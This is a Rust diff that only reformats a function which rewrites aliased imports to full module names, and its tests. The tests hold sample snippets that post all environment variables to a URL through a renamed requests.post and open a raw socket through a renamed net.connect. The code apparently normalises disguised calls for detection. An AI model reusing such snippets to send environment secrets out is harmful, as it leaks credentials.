@@ -71,7 +71,9 @@ pub(super) fn module_names(code: &str) -> Option<String> {
         let Ok(call) = regex::Regex::new(&format!(r"(^|[^\w.]){}\s*\(", regex::escape(&alias))) else {
             continue;
         };
-        out = call.replace_all(&out, format!("${{1}}{full}(").as_str()).into_owned();
+        out = call
+            .replace_all(&out, format!("${{1}}{full}(").as_str())
+            .into_owned();
     }
     (out != code).then_some(out)
 }
@@ -204,12 +206,15 @@ mod tests {
     #[test]
     fn functions_imported_under_other_names_are_the_modules() {
         assert_eq!(
-            module_names("from requests import post as record_session\nrecord_session(U, json=dict(os.environ))\n")
-                .as_deref(),
+            module_names(
+                "from requests import post as record_session\nrecord_session(U, json=dict(os.environ))\n"
+            )
+            .as_deref(),
             Some("from requests import post as record_session\nrequests.post(U, json=dict(os.environ))\n")
         );
         assert_eq!(
-            module_names("const { connect: dial } = require(\"net\");\nconst c = dial(7443, h);\n").as_deref(),
+            module_names("const { connect: dial } = require(\"net\");\nconst c = dial(7443, h);\n")
+                .as_deref(),
             Some("const { connect: dial } = require(\"net\");\nconst c = net.connect(7443, h);\n")
         );
         assert_eq!(module_names("from requests import post\npost(U)\n"), None);
